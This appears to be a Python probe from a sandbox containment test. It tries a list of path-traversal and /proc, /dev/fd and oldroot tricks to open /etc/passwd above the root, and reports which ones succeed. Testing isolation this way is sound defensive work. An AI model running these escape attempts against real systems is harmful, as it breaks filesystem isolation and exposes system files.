"""climb out by dots, links and descriptors of folders

Breach: a file above the root, or a link that was followed to one.
"""

import os

CONTROL = True
WAYS = (
    *("../" * 64 + "etc/passwd", "/python/../../../etc/passwd", "/judge/../..//etc/passwd", "//etc/passwd"),
    *("/dev/fd/0/../../../etc/passwd", "/proc/self/cwd/etc/passwd", "/proc/1/root/etc/passwd", "/.oldroot"),
    *("/oldroot/etc/passwd", "/newroot/etc/passwd", "/run/host/etc/passwd"),
)


def attack(bait: bytes) -> bytes:
    return " ".join(way for way in WAYS if opened(way) or above(way)).encode()


def opened(way: str) -> bool:
    try:
        with open(way, "rb") as file:
            return bool(file.read(1))
    except OSError:
        return False


def above(way: str) -> bool:
    """Relative to an open root, level by level."""
    place = os.open("/", os.O_RDONLY)
    for _ in range(8):
        place = os.open("..", os.O_RDONLY, dir_fd=place)
    try:
        with open(os.open(way.lstrip("/."), os.O_RDONLY, dir_fd=place), "rb") as file:
            return bool(file.read(1))
    except OSError:
        return False
